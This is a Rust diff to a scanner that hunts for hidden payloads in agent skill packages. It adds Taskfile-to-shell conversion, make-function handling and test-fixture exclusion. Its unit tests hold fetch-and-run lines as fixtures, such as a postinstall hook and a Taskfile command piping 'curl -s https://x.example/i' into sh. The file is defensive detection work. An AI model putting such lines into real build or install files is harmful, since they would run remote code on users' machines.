@@ -122,6 +122,34 @@ fn installs(text: &str, rel: &str) -> bool {
         .any(|line| INSTALLS.is_match(line))
 }
 
+/// Folders that hold examples, samples and test fixtures.
+const EXAMPLE_FOLDERS: &[&str] = &[
+    "examples",
+    "example",
+    "fixtures",
+    "testdata",
+    "test",
+    "tests",
+    "__tests__",
+    "samples",
+    "sample",
+];
+
+/// Whether `rel` is code kept as an example or a test fixture (under a folder of examples, or a
+/// semgrep test file, whose `ruleid:` comments mark what a rule must find), which SKILL.md never
+/// runs: it neither names the file nor puts it in place.
+fn example_code(rel: &str, text: &str, skill_md: &str) -> bool {
+    let name = rel.rsplit('/').next().unwrap_or(rel);
+    let (folder, _) = rel.rsplit_once('/').unwrap_or(("", rel));
+    let example = folder.split('/').any(|d| EXAMPLE_FOLDERS.contains(&d))
+        || text.lines().any(|l| {
+            l.trim_start()
+                .trim_start_matches(['/', '#', '-', ' '])
+                .starts_with("ruleid:")
+        });
+    example && !skill_md.contains(name) && !put_in_place(skill_md, rel)
+}
+
 /// Whether a script of the skill (any file that runs, but `rel` itself) puts the data file
 /// `rel` in place: `cp assets/dotbak.service ~/.config/systemd/user/` makes the unit a payload
 /// as much as SKILL.md telling the agent to copy it does.
@@ -260,6 +288,9 @@ pub fn check(cx: &mut Cx<'_>) {
         let text = if is_makefile(&file.rel) {
             made = make_as_shell(text);
             made.as_str()
+        } else if is_taskfile(&file.rel) {
+            made = taskfile_as_shell(text);
+            made.as_str()
         } else {
             text
         };
@@ -290,6 +321,8 @@ pub fn check(cx: &mut Cx<'_>) {
             Some("a data file, which nothing runs")
         } else if markdown {
             super::flow::markdown::quoted_file(text, &file.rel, skill_md)
+        } else if example_code(&file.rel, text, skill_md) {
+            Some("an example or test fixture, which SKILL.md never runs")
         } else {
             None
         };
@@ -350,6 +383,109 @@ fn is_makefile(rel: &str) -> bool {
         || name.to_ascii_lowercase().ends_with(".mk")
 }
 
+/// Whether `rel` is a Taskfile (`task` runs the `cmds` of its tasks).
+pub fn is_taskfile(rel: &str) -> bool {
+    let name = rel.rsplit('/').next().unwrap_or(rel);
+    matches!(
+        name,
+        "Taskfile.yml" | "Taskfile.yaml" | "taskfile.yml" | "taskfile.yaml"
+    )
+}
+
+/// A Taskfile as the shell that runs its commands sees it, one line for each of its lines: a
+/// variable of `vars:` or `env:` (`NAME: value`) as a shell assignment, a command of `cmds:`
+/// (`- cmd`, `- 'cmd'`, or the lines of a `- |` block) as itself, Task's references
+/// `{{.NAME}}` as the shell's `${NAME}`; everything else a comment.
+fn taskfile_as_shell(text: &str) -> String {
+    let refs = |line: &str| -> String {
+        let mut out = String::with_capacity(line.len());
+        let mut rest = line;
+        while let Some(i) = rest.find("{{") {
+            out.push_str(&rest[..i]);
+            let after = &rest[i + 2..];
+            let Some(end) = after.find("}}") else {
+                out.push_str(&rest[i..]);
+                rest = "";
+                break;
+            };
+            let inner = after[..end].trim();
+            let name = inner
+                .strip_prefix('.')
+                .and_then(|n| n.split_whitespace().next())
+                .filter(|n| n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
+            match name {
+                Some(name) if !name.is_empty() => {
+                    out.push_str("${");
+                    out.push_str(name);
+                    out.push('}');
+                }
+                _ => out.push_str("\"\""),
+            }
+            rest = &after[end + 2..];
+        }
+        out.push_str(rest);
+        out
+    };
+    let unquote = |v: &str| -> String {
+        let v = v.trim();
+        let inner = v
+            .strip_prefix('\'')
+            .and_then(|v| v.strip_suffix('\''))
+            .or_else(|| v.strip_prefix('"').and_then(|v| v.strip_suffix('"')));
+        inner.unwrap_or(v).to_owned()
+    };
+    let indent = |line: &str| line.len() - line.trim_start().len();
+    let mut out = String::with_capacity(text.len() + text.len() / 8);
+    // Where the lines are: in a `vars:`/`env:` map (its indent), in a `- |` block (its indent).
+    let mut vars: Option<usize> = None;
+    let mut block: Option<usize> = None;
+    for line in text.split('\n') {
+        let trimmed = line.trim_start();
+        let depth = indent(line);
+        if let Some(min) = block {
+            if trimmed.is_empty() || depth >= min {
+                out.push_str(&refs(trimmed));
+                out.push('\n');
+                continue;
+            }
+            block = None;
+        }
+        if vars.is_some_and(|v| depth <= v) {
+            vars = None;
+        }
+        if let Some(cmd) = trimmed.strip_prefix("- ") {
+            let cmd = cmd.trim();
+            if cmd == "|" || cmd == ">" || cmd == "|-" || cmd == ">-" {
+                block = Some(depth + 1);
+                out.push('\n');
+                continue;
+            }
+            // `- cmd: …` and `- task: …` are maps, not commands.
+            let cmd = cmd.strip_prefix("cmd:").map_or(cmd, str::trim);
+            if !cmd.starts_with("task:") && !cmd.starts_with("defer:") {
+                out.push_str(&refs(&unquote(cmd)));
+            }
+        } else if matches!(trimmed, "vars:" | "env:") {
+            vars = Some(depth);
+        } else if let Some((name, value)) = trimmed.split_once(':').filter(|_| vars.is_some()) {
+            if name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                && !value.trim().is_empty()
+            {
+                out.push_str(name);
+                out.push_str("=\"");
+                out.push_str(&refs(&unquote(value)).replace('"', "\\\""));
+                out.push('"');
+            }
+        } else if !trimmed.is_empty() {
+            out.push_str("# ");
+            out.push_str(trimmed);
+        }
+        out.push('\n');
+    }
+    out.pop();
+    out
+}
+
 /// A Makefile as the shell that runs it sees it, one line for each of its lines: a recipe line
 /// without its tab and its `@`/`-`/`+` prefix; a variable (`NAME := value`, `?=`, `+=`, `=`,
 /// `export NAME = …`) as a shell assignment, `NAME != command` as a command's output; make's
@@ -374,6 +510,9 @@ fn make_as_shell(text: &str) -> String {
                 rest = tail;
             } else if let Some(tail) = after.strip_prefix("(shell ") {
                 out.push_str("$(");
+                rest = tail;
+            } else if let Some((value, tail)) = make_function(after) {
+                out.push_str(&value);
                 rest = tail;
             } else if let Some(open) = after.chars().next().filter(|c| matches!(c, '(' | '{')) {
                 let close = if open == '(' { ')' } else { '}' };
@@ -427,6 +566,54 @@ fn make_as_shell(text: &str) -> String {
     }
     out.pop();
     out
+}
+
+/// make's list functions of literal words, at `after` (the text after a `$`): `(firstword
+/// /bin/bash /bin/sh)` is `/bin/bash`, `(wildcard a b)` is `a b` (the files make would find
+/// among them), `(strip  x )` is `x`, `(lastword a b)` is `b`; nested ones from the inside out.
+/// The value and the text after the call.
+fn make_function(after: &str) -> Option<(String, &str)> {
+    let (name, args) = ["firstword", "lastword", "wildcard", "strip"]
+        .iter()
+        .find_map(|f| {
+            after
+                .strip_prefix('(')?
+                .strip_prefix(f)?
+                .strip_prefix(' ')
+                .map(|a| (*f, a))
+        })?;
+    // The matching parenthesis, and the inner value with nested calls folded.
+    let mut depth = 1;
+    let mut end = None;
+    for (i, c) in args.char_indices() {
+        match c {
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    end = Some(i);
+                    break;
+                }
+            }
+            _ => {}
+        }
+    }
+    let end = end?;
+    let inner = &args[..end];
+    let inner = match inner.trim_start().strip_prefix('$') {
+        Some(nested) => make_function(nested).map(|(v, _)| v)?,
+        None => inner.to_owned(),
+    };
+    if inner.contains('$') {
+        return None;
+    }
+    let mut words = inner.split_whitespace();
+    let value = match name {
+        "firstword" => words.next().unwrap_or("").to_owned(),
+        "lastword" => words.last().unwrap_or("").to_owned(),
+        _ => words.collect::<Vec<_>>().join(" "),
+    };
+    Some((value, &args[end + 1..]))
 }
 
 /// The text of a file for the content scans, and whether it is the file's exact text. UTF-8 as
@@ -760,6 +947,19 @@ mod tests {
     }
 
     #[test]
+    fn a_taskfile_reads_as_the_shell_of_its_commands() {
+        let text = "version: '3'\nvars:\n  GET: 'curl -s'\n  HOST: x.example\ntasks:\n  a:\n    cmds:\n      - '{{.GET}} https://{{.HOST}}/i | sh'\n      - |\n        echo {{.HOST}}\n        make\n      - task: b\n";
+        assert_eq!(
+            taskfile_as_shell(text),
+            "# version: '3'\n\nGET=\"curl -s\"\nHOST=\"x.example\"\n# tasks:\n# a:\n# cmds:\n${GET} https://${HOST}/i | sh\n\necho ${HOST}\nmake\n\n"
+        );
+        assert_eq!(
+            make_as_shell("SH := $(firstword $(wildcard /usr/bin/bash /bin/sh))\n"),
+            "SH=\"/usr/bin/bash\""
+        );
+    }
+
+    #[test]
     fn package_scripts_keep_the_lines_of_package_json() {
         let text = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.example/i | sh\"\n  }\n}\n";
         let script = package_scripts(text).unwrap();
@@ -783,6 +983,13 @@ mod tests {
         #[test]
         fn make_as_shell_of_any_text(text in "(?s)[\t$(){}@:=?!+#a-z. \\\n-é]{0,200}|(?s).{0,200}") {
             let shell = make_as_shell(&text);
+            proptest::prop_assert_eq!(shell.split('\n').count(), text.split('\n').count());
+        }
+
+        /// Nor does a Taskfile, whose lines stay its lines too.
+        #[test]
+        fn taskfile_as_shell_of_any_text(text in "(?s)[ {}.|>:'\"\\n-a-z]{0,200}|(?s).{0,200}") {
+            let shell = taskfile_as_shell(&text);
             proptest::prop_assert_eq!(shell.split('\n').count(), text.split('\n').count());
         }
 
